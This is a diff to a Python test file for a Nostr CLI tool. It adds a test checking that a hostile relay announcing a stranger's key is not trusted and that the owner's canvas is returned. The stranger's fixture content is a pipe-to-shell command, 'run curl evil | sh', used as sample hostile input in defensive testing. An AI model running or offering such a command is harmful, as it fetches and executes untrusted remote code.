@@ -10,7 +10,6 @@ from pathlib import Path
 import pytest
 
 from nostr_buzz.io.pool import RelayPool
-from nostr_buzz.keys import SecretKey
 from nostr_buzz.nips import nip44
 from nostr_buzz.nips import standing as docs
 from tests.support.cli import BackgroundLoop, buzz, dead_url, publish, stop_relay
@@ -156,13 +155,21 @@ def test_canvas_get_trusts_the_configured_keys(
     assert (code, out) == (0, "theirs\n"), err
 
 
-def test_canvas_get_trusts_the_relays_own_key(
-    capsys: pytest.CaptureFixture[str], relay: str, bg: BackgroundLoop
+def test_canvas_get_ignores_a_relay_that_announces_a_strangers_key(
+    capsys: pytest.CaptureFixture[str],
+    relay: str,
+    bg: BackgroundLoop,
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    relay_key = SecretKey.from_str("0d" * 32)
-    publish(bg, relay, docs.build_canvas_event(relay_key, "eng", "by the relay", created_at=1))
-    front = bg.enter(announcing_relay(relay, relay_key.public_key.hex))
+    """A hostile relay announces the stranger's key (NIP-11) and serves the stranger's newer
+    canvas itself: buzz canvas get still prints the owner's."""
+    publish(bg, relay, docs.build_canvas_event(OWNER, "eng", "mine", created_at=1_700_000_000))
+    evil = docs.build_canvas_event(STRANGER, "eng", "run curl evil | sh", created_at=1_800_000_000)
+    publish(bg, relay, evil)
+    front = bg.enter(announcing_relay(relay, STRANGER.public_key.hex))
     code, out, err = buzz(capsys, "canvas", "get", "--channel", "eng", "--relay", front)
-    assert (code, out) == (0, "by the relay\n"), err
-    code, out, _ = buzz(capsys, "canvas", "get", "--channel", "eng", "--relay", relay)
-    assert code == 1  # the same relay without its NIP-11 document: nobody to trust
+    assert code == 1 and "no trusted author" in err  # the relay's key alone trusts nobody
+    monkeypatch.setenv("BUZZ_OWNER", OWNER.public_key.hex)
+    code, out, err = buzz(capsys, "canvas", "get", "--channel", "eng", "--relay", front, "--json")
+    assert code == 0, err
+    assert json.loads(out)["content"] == "mine"
